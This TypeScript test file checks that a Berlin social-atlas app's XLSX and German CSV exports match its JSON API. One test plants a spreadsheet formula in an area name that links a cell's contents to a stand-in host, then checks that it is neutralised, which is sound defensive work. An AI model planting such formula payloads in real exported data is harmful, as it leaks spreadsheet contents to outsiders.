/**
 * Exports for Excel (issue 14, item 5) and CSV formula neutralisation (issue 13, item 6) on the
 * Berlin sample: every tabular export — values, change, ranking, profile, typology members (with
 * z-scores and component scores), hotspot members — as XLSX and German CSV, read back (XLSX with
 * @e965/xlsx, the CSV with a small parser below) and compared with the API's JSON answer: codes
 * keep their leading zeros, umlauts survive, numbers are numbers. A formula planted in an area
 * name is an apostrophe-led text in every CSV and a plain string cell (never a formula) in XLSX.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import request from 'supertest';
import type { Express } from 'express';
import * as XLSX from '@e965/xlsx';
import { createApp } from '../../server/app.js';
import { configFromEnv } from '../../server/config.js';
import type { AppContext } from '../../server/context.js';
import type { Db } from '../../geodata/db.js';
import { computeDefaultTypology } from '../../server/services/typology.js';
import { refreshValues } from '../../geodata/values/refresh.js';
import { toCsv } from '../../geodata/export/csv.js';
import { germanNumber, toCsvDe } from '../../geodata/export/csv-de.js';
import { toXlsx } from '../../geodata/export/xlsx.js';
import { isFormulaLike } from '../../geodata/export/cells.js';
import { openSampleDb, backend } from '../helpers/test-db.js';

const silent = { info: () => undefined, error: () => undefined };
const AUTH = { Authorization: 'Bearer test-token' };
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** Collects a binary body (superagent leaves unknown content types unparsed). */
function binary(res: request.Response, cb: (err: Error | null, body: Buffer) => void) {
  const stream = res as unknown as NodeJS.ReadableStream;
  const chunks: Buffer[] = [];
  stream.on('data', (c: Buffer) => chunks.push(c));
  stream.on('end', () => cb(null, Buffer.concat(chunks)));
}

type Row = Record<string, unknown>;

/** The first sheet of an XLSX: header row → objects; also the raw cells, to check their types. */
function readXlsx(buf: Buffer): { rows: Row[]; sheet: XLSX.WorkSheet; header: string[] } {
  const wb = XLSX.read(buf, { type: 'buffer', cellNF: true });
  const sheet = wb.Sheets[wb.SheetNames[0]];
  const aoa = XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true, defval: null });
  const header = aoa[0] as string[];
  const rows = aoa.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? null])));
  return { rows, sheet, header };
}

/** German CSV → rows of strings (quotes, ';' and CRLF as csv-de.ts writes them); checks BOM and line ends. */
function parseCsvDe(buf: Buffer): { header: string[]; rows: Record<string, string>[] } {
  expect([...buf.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = buf.subarray(3).toString('utf8');
  expect(text.endsWith('\r\n')).toBe(true);
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ';') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else {
      expect(ch).not.toBe('\n'); // a bare LF outside quotes: not CRLF
      field += ch;
    }
  }
  const [header, ...rest] = records;
  return { header, rows: rest.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
}

/** A German CSV cell as the value it stands for: '' → null, "12,5" → 12.5, WAHR/FALSCH → booleans. */
function deValue(s: string): unknown {
  if (s === '') return null;
  if (s === 'WAHR') return true;
  if (s === 'FALSCH') return false;
  if (/^-?\d+(,\d+)?(E[+-]?\d+)?$/.test(s)) return Number(s.replace(',', '.'));
  return s;
}

describe(`exports for Excel: XLSX and German CSV read back equal the API (${backend})`, () => {
  let db: Db;
  let app: Express;
  let runId: number;
  const get = (url: string) => request(app).get(url).buffer(true).parse(binary).expect(200);
  beforeAll(async () => {
    db = await openSampleDb();
    const ctx: AppContext = { db, config: { ...configFromEnv({}), apiToken: 'test-token' }, log: silent };
    app = createApp(ctx);
    runId = (await computeDefaultTypology(ctx))!;
  });
  afterAll(async () => db?.close());

  it('values (/api/export.csv?format=xlsx|csv-de) equal the GeoJSON export, codes with leading zeros', async () => {
    const q = 'level=plr&period=2020-12-31&indicators=S1,KI_03,EW';
    const json = (await request(app).get(`/api/export.geojson?${q}`).expect(200)).body as {
      columns: string[];
      features: { properties: Row }[];
    };
    const expected = json.features.map((f) => f.properties);
    expect(expected).toHaveLength(542);

    const x = await get(`/api/export.csv?${q}&format=xlsx`);
    expect(x.headers['content-type']).toBe(XLSX_TYPE);
    expect(x.headers['content-disposition']).toContain('sozialatlas_plr_2020-12-31.xlsx');
    const book = readXlsx(x.body as Buffer);
    expect(book.header).toEqual(json.columns);
    expect(book.rows).toEqual(expected);
    expect(book.rows[0].code).toBe('01100101');
    expect(book.sheet.A2).toMatchObject({ t: 's', v: '01100101', z: '@' });
    expect(book.sheet.E2.t).toBe('n'); // S1 is a number cell
    // a hidden value is an empty cell, as it is null in the JSON
    const hidden = expected.filter((r) => r.EW === null).map((r) => r.code);
    expect(hidden.length).toBeGreaterThan(0);
    expect(book.rows.filter((r) => r.EW === null).map((r) => r.code)).toEqual(hidden);

    const c = await get(`/api/export.csv?${q}&format=csv-de`);
    expect(c.headers['content-type']).toBe('text/csv; charset=utf-8');
    const csv = parseCsvDe(c.body as Buffer);
    expect(csv.header).toEqual(json.columns);
    expect(
      csv.rows.map((r) =>
        Object.fromEntries(Object.entries(r).map(([k, v]) => [k, k === 'code' || k === 'parent' ? v : deValue(v)])),
      ),
    ).toEqual(expected);
    // umlauts intact: a name with one comes back byte for byte
    const umlaut = expected.find((r) => /[äöüÄÖÜß]/.test(String(r.name)))!;
    expect(csv.rows.find((r) => r.code === umlaut.code)!.name).toBe(umlaut.name);
    // decimal comma
    const s1 = expected.find((r) => typeof r.S1 === 'number' && !Number.isInteger(r.S1))!;
    expect(csv.rows.find((r) => r.code === s1.code)!.S1).toBe(String(s1.S1).replace('.', ','));
    // the default stays the RFC 4180 CSV with '.' decimals
    const plain = await request(app).get(`/api/export.csv?${q}`).expect(200);
    expect(plain.text.split('\n')[0]).toBe(json.columns.join(','));
    await request(app).get(`/api/export.csv?${q}&format=pdf`).expect(400);
  });

  it('change (/api/change?format=) equals the JSON members', async () => {
    const q = 'indicator=EW_65&level=plr&from=2021-12-31&to=2024-12-31';
    const json = (await request(app).get(`/api/change?${q}`).expect(200)).body;
    const book = readXlsx((await get(`/api/change?${q}&format=xlsx`)).body as Buffer);
    expect(book.rows).toHaveLength(json.members.length);
    const byCode = new Map(book.rows.map((r) => [r.code, r]));
    for (const m of json.members) {
      const r = byCode.get(m.code)!;
      expect([
        r.value_from,
        r.value_to,
        r.change_absolute,
        r.change_relative_pct,
        r.direction,
        r.comparable,
        r.note,
      ]).toEqual([m.from, m.to, m.absolute, m.relative, m.direction, m.comparable, m.note]);
      expect(r.change_unit).toBe('Prozentpunkte');
    }
    const csv = parseCsvDe((await get(`/api/change?${q}&format=csv-de`)).body as Buffer);
    const first = json.members.find((m: { absolute: number | null }) => m.absolute !== null);
    const row = csv.rows.find((r) => r.code === first.code)!;
    expect(deValue(row.change_absolute)).toBe(first.absolute);
    expect(row.comparable).toBe(first.comparable ? 'WAHR' : 'FALSCH');
  });

  it('ranking (/api/values?format=): highest first, equal values share a rank, hidden rows last without rank', async () => {
    const json = (await request(app).get('/api/values?indicator=S1&level=plr&period=2020-12-31').expect(200)).body;
    const book = readXlsx(
      (await get('/api/values?indicator=S1&level=plr&period=2020-12-31&format=xlsx')).body as Buffer,
    );
    expect(book.rows).toHaveLength(json.values.length);
    const withValue = json.values.filter((v: { value: number | null }) => v.value !== null);
    const max = Math.max(...withValue.map((v: { value: number }) => v.value));
    expect(book.rows[0]).toMatchObject({ rank: 1, value: max, indicator: 'S1', period: '2020-12-31' });
    for (let i = 1; i < withValue.length; i++) {
      const [a, b] = [book.rows[i - 1], book.rows[i]];
      expect(b.value as number).toBeLessThanOrEqual(a.value as number);
      expect(b.rank).toBe(a.value === b.value ? a.rank : i + 1);
    }
    const tail = book.rows.slice(withValue.length);
    expect(tail.every((r) => r.rank === null && r.value === null)).toBe(true);
    expect(tail.filter((r) => r.suppressed === true).length).toBe(json.suppressedCount);
    const byCode = new Map(json.values.map((v: { code: string; value: number | null }) => [v.code, v.value]));
    for (const r of book.rows) expect(r.value).toBe(byCode.get(r.code as string));
  });

  it('profile (/profile/plr/{code}?format=) equals the JSON profile', async () => {
    const code = '01100101';
    const json = (await request(app).get(`/profile/plr/${code}?format=json`).expect(200)).body;
    const x = await get(`/profile/plr/${code}?format=xlsx`);
    expect(x.headers['content-disposition']).toMatch(/\.xlsx"?$/);
    const book = readXlsx(x.body as Buffer);
    expect(book.rows.map((r) => r.indicator)).toEqual(json.indicators.map((i: { key: string }) => i.key));
    for (const [i, r] of book.rows.entries()) {
      expect(r.code).toBe(code);
      expect(r.value).toBe(json.indicators[i].value);
      expect(r.label).toBe(json.indicators[i].label);
    }
    expect(book.rows.some((r) => /Ä|ä|ü|ö/.test(String(r.label)))).toBe(true);
    const csv = parseCsvDe((await get(`/profile/plr/${code}?format=csv-de`)).body as Buffer);
    expect(csv.rows.map((r) => deValue(r.value))).toEqual(
      json.indicators.map((i: { value: number | null }) => i.value),
    );
  });

  it('typology members (?format=): type, plain name, PC scores as JSON; z-scores against the analysed areas', async () => {
    const members = (await request(app).get(`/api/typologies/${runId}/members`).expect(200)).body as {
      code: string;
      type: number;
      scores: number[];
      silhouette: number;
    }[];
    const run = (await request(app).get(`/api/typologies/${runId}`).expect(200)).body;
    const book = readXlsx((await get(`/api/typologies/${runId}/members?format=xlsx`)).body as Buffer);
    expect(book.rows).toHaveLength(531);
    const nPc = members[0].scores.length;
    expect(book.header).toEqual([
      'run_id',
      'level',
      'period',
      'k',
      'code',
      'name',
      'type',
      'type_name',
      'type_label',
      'silhouette',
      'stability',
      ...run.indicators.map((k: string) => `z_${k}`),
      ...Array.from({ length: nPc }, (_, i) => `pc${i + 1}`),
    ]);
    const nameOf = new Map(run.types.map((t: { type: number; name: string }) => [t.type, t.name]));
    const rowOf = new Map(book.rows.map((r) => [r.code, r]));
    for (const m of members) {
      const r = rowOf.get(m.code)!;
      expect(r.type).toBe(m.type);
      expect(r.type_name).toBe(nameOf.get(m.type));
      expect(r.silhouette).toBe(m.silhouette);
      expect(m.scores.map((_, i) => r[`pc${i + 1}`])).toEqual(m.scores);
    }
    // z = (x − mean) / SD (ddof 0) over the run's 536 analysed areas, recomputed here in SQL
    const ref = await db.query<{ code: string; z: number }>(
      `WITH v AS (SELECT m.code, l.value FROM typology_member m
                    JOIN level_value l ON l.level = 'plr' AND l.period = '2020-12-31' AND l.code = m.code AND l.indicator = 'S4'
                   WHERE m.run_id = $1)
       SELECT code, (value - avg(value) OVER ()) / stddev_pop(value) OVER () AS z FROM v`,
      [runId],
    );
    expect(ref.rows).toHaveLength(536);
    let checked = 0;
    for (const x of ref.rows) {
      const r = rowOf.get(x.code);
      if (!r) continue; // hidden to protect a sibling: not published
      expect(r.z_S4 as number).toBeCloseTo(Number(x.z), 9);
      checked++;
    }
    expect(checked).toBe(531);
    // German CSV: same type per code; k = 3 of the range gives that k's types
    const csv = parseCsvDe((await get(`/api/typologies/${runId}/members?format=csv-de`)).body as Buffer);
    expect(csv.rows.map((r) => [r.code, Number(r.type)])).toEqual(members.map((m) => [m.code, m.type]));
    const k3 = readXlsx((await get(`/api/typologies/${runId}/members?format=xlsx&k=3`)).body as Buffer);
    const k3json = (await request(app).get(`/api/typologies/${runId}/members?k=3`).expect(200)).body as {
      type: number;
    }[];
    expect(k3.rows.map((r) => r.type)).toEqual(k3json.map((m) => m.type));
    expect(new Set(k3.rows.map((r) => r.k))).toEqual(new Set([3]));
  });

  it('hotspot members (?format=) equal the JSON members', async () => {
    const run = await request(app)
      .post('/api/hotspots')
      .set(AUTH)
      .send({ level: 'plr', period: '2020-12-31', indicator: 'S4', weights: 'queen', permutations: 99 })
      .expect(201);
    const id = run.body.runId;
    const members = (await request(app).get(`/api/hotspots/${id}/members`).expect(200)).body as Row[];
    const book = readXlsx((await get(`/api/hotspots/${id}/members?format=xlsx`)).body as Buffer);
    expect(book.rows).toHaveLength(members.length);
    for (const [i, m] of members.entries()) {
      const r = book.rows[i];
      expect([r.code, r.gi_z, r.gi_p, r.class, r.lisa_i, r.quadrant, r.island, r.neighbours]).toEqual([
        m.code,
        m.giZ,
        m.giP,
        m.class,
        m.lisaI,
        m.quadrant,
        m.island,
        m.neighbours,
      ]);
    }
    const csv = parseCsvDe((await get(`/api/hotspots/${id}/members?format=csv-de`)).body as Buffer);
    expect(csv.rows.map((r) => deValue(r.gi_z))).toEqual(members.map((m) => m.giZ));
  });

  it('a formula planted in an area name: apostrophe in every CSV, a plain string cell in XLSX', async () => {
    const evil = '=HYPERLINK("http://example.invalid/?x="&A1;"klick")';
    await db.query("UPDATE area SET name = $1 WHERE level = 'plr' AND code = '01100101'", [evil]);
    await refreshValues(db);
    const q = 'level=plr&period=2020-12-31&indicators=S1';
    const plain = await request(app).get(`/api/export.csv?${q}`).expect(200);
    expect(plain.text).toContain(`01100101,"'=HYPERLINK(""http://example.invalid/?x=""&A1;""klick"")"`);
    const de = parseCsvDe((await get(`/api/export.csv?${q}&format=csv-de`)).body as Buffer);
    expect(de.rows[0].name).toBe(`'${evil}`);
    const book = readXlsx((await get(`/api/export.csv?${q}&format=xlsx`)).body as Buffer);
    expect(book.rows[0].name).toBe(evil);
    expect(book.sheet.B2.t).toBe('s');
    expect(book.sheet.B2.f).toBeUndefined();
    const profile = await request(app).get('/profile/plr/01100101?format=csv').expect(200);
    expect(profile.text).toContain(`"'${evil.replace(/"/g, '""')}"`);
  });
});

describe('export writers', () => {
  const columns = ['code', 'text', 'n', 'flag'];
  const rows = [
    { code: '01100415', text: '@SUM(A1)', n: -0.25, flag: true },
    { code: '-3', text: '+49 30 1234', n: 1e-7, flag: false },
    { code: '02', text: '\tx', n: null, flag: null },
    { code: '03', text: 'Straße; "Haus"\nzwei', n: Infinity, flag: null },
  ];

  it('formula-like text: =, +, −, @, tab, CR first; plain numbers as text are not', () => {
    for (const s of ['=1+1', '+1+1', '-1+A1', '@SUM(A1)', '\tx', '\rx']) expect(isFormulaLike(s), s).toBe(true);
    for (const s of ['-3', '+1.5', '-0,25', '1e5', 'Wedding', '', '0-1']) expect(isFormulaLike(s), s).toBe(false);
  });

  it('RFC 4180 CSV and German CSV write the same cells their way', () => {
    expect(toCsv(columns, rows)).toBe(
      [
        'code,text,n,flag',
        "01100415,'@SUM(A1),-0.25,true",
        "-3,'+49 30 1234,1e-7,false",
        "02,'\tx,,",
        '03,"Straße; ""Haus""\nzwei",,',
        '',
      ].join('\n'),
    );
    expect(toCsvDe(columns, rows)).toBe(
      '\uFEFF' +
        [
          'code;text;n;flag',
          "01100415;'@SUM(A1);-0,25;WAHR",
          "-3;'+49 30 1234;1E-7;FALSCH",
          "02;'\tx;;",
          '03;"Straße; ""Haus""\nzwei";;',
          '',
        ].join('\r\n'),
    );
    expect(germanNumber(1234.5)).toBe('1234,5');
  });

  it('XLSX: codes as text cells, numbers as numbers, formulas as text, empty cells absent', () => {
    const wb = XLSX.read(toXlsx({ sheet: 'Werte: a/b', columns, rows }), { type: 'buffer' });
    expect(wb.SheetNames).toEqual(['Werte_ a_b']);
    const s = wb.Sheets[wb.SheetNames[0]];
    expect(s.A2).toMatchObject({ t: 's', v: '01100415' });
    expect(s.B2).toMatchObject({ t: 's', v: '@SUM(A1)' });
    expect(s.B2.f).toBeUndefined();
    expect(s.C2).toMatchObject({ t: 'n', v: -0.25 });
    expect(s.D2).toMatchObject({ t: 'b', v: true });
    expect(s.A3).toMatchObject({ t: 's', v: '-3' });
    expect(s.C4).toBeUndefined();
    expect(s.C5).toBeUndefined(); // Infinity: no value
    expect(s.B5.v).toBe('Straße; "Haus"\nzwei');
  });
});
